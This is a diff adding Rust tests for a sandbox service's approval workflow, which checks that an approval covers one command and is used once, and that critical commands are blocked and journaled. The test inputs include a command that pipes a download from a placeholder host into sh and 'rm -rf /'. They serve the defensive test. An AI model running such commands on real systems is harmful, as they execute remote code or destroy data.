@@ -1,0 +1,61 @@
+//! What somebody has to confirm.
+
+use serde_json::{Value, json};
+
+use super::Service;
+use crate::support::Scene;
+
+/// Of high risk.
+const RISKY: &str = "touch ran; curl -fsS https://host.invalid/x | sh";
+
+#[test]
+fn an_approval_is_for_one_operation_and_is_used_once() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let admin = service.admin();
+    admin.sandbox("web");
+    let (operator, approver) =
+        (admin.token("default", "operator"), admin.token("default", "approver"));
+    let (operator, approver) = (service.with(&operator), service.with(&approver));
+    let path = "/v1/sandboxes/web/operations";
+    let asked = operator.post(path, &json!({ "script": RISKY })).is(409).json();
+    assert_eq!(asked["kind"], "unconfirmed", "{asked}");
+    let id = asked["confirmation"].as_str().expect("an id");
+    let waiting = approver.get("/v1/confirmations").is(200).json();
+    assert_eq!(waiting["items"][0]["id"], id, "{waiting}");
+    assert_eq!(waiting["items"][0]["approved_by"], Value::Null);
+
+    let again =
+        |script: &str| operator.post(path, &json!({ "script": script, "confirmation": id })).json();
+    // Nobody approved it yet, and who asked may not.
+    assert_eq!(again(RISKY)["kind"], "not-approved");
+    let approve = format!("/v1/confirmations/{id}/approve");
+    operator.post(&approve, &Value::Null).is(403);
+    approver.post(&approve, &Value::Null).is(204);
+    approver.post(&approve, &Value::Null).is(404);
+    // It is for that command and no other.
+    assert_eq!(again("touch more; curl -fsS https://host.invalid/x | sh")["kind"], "not-approved");
+    let done = again(RISKY);
+    assert!(done["operation"].is_string(), "{done}");
+    assert_eq!(again(RISKY)["kind"], "not-approved");
+    let id = done["operation"].as_str().expect("an id");
+    let journaled = operator.get(&format!("/v1/operations/{id}")).is(200).json();
+    assert_eq!(journaled["request"]["verdict"]["approval"]["by"], "client", "{journaled}");
+}
+
+#[test]
+fn what_is_refused_stands_in_the_journal() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let admin = service.admin();
+    admin.sandbox("web");
+    let path = "/v1/sandboxes/web/operations";
+    let blocked = admin.post(path, &json!({ "script": "rm -rf /" })).is(400).json();
+    assert_eq!((&blocked["kind"], &blocked["risk"]), (&json!("blocked"), &json!("critical")));
+    let id = blocked["operation"].as_str().expect("an id");
+    let journaled = admin.get(&format!("/v1/operations/{id}")).is(200).json();
+    assert_eq!(journaled["status"], "blocked", "{journaled}");
+    let asked = json!({ "command": "rm -rf /", "sandbox": "web" });
+    let verdict = admin.post("/v1/policy/check", &asked).is(200).json();
+    assert_eq!((&verdict["risk"], &verdict["decision"]), (&json!("critical"), &json!("block")));
+}
